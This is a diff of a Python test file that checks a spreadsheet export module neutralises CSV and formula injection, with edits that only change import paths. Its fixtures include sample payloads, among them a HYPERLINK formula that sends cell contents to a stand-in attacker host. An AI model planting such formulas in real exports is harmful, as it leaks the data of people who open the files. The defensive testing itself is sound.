@@ -1,4 +1,4 @@
-"""Exports a spreadsheet opens run no formula: OWASP's CSV-injection rule in journeylab.export (issue 13)."""
+"""Exports a spreadsheet opens run no formula: OWASP's CSV-injection rule in journeylab.report.export (issue 13)."""
 from __future__ import annotations
 
 import csv
@@ -13,7 +13,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from journeylab.export import neutralise, write_table
+from journeylab.report.export import neutralise, write_table
 
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 NEUTRALISED = ["=1+1", "-2+3", "+31 6 1234", "@SUM(A1)", '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -108,7 +108,7 @@ def test_named_index_is_written(tmp_path):
 
 def test_openpyxl_never_stores_a_formula(tmp_path, monkeypatch):
     # even if a text starting with '=' slipped past neutralise, the xlsx holds it as text
-    import journeylab.export as export
+    import journeylab.report.export as export
 
     monkeypatch.setattr(export, "neutralise", lambda frame: frame)
     path = write_table(pd.DataFrame({"a": ["=1+1", "=HYPERLINK(\"x\")"]}), tmp_path / "t.xlsx")
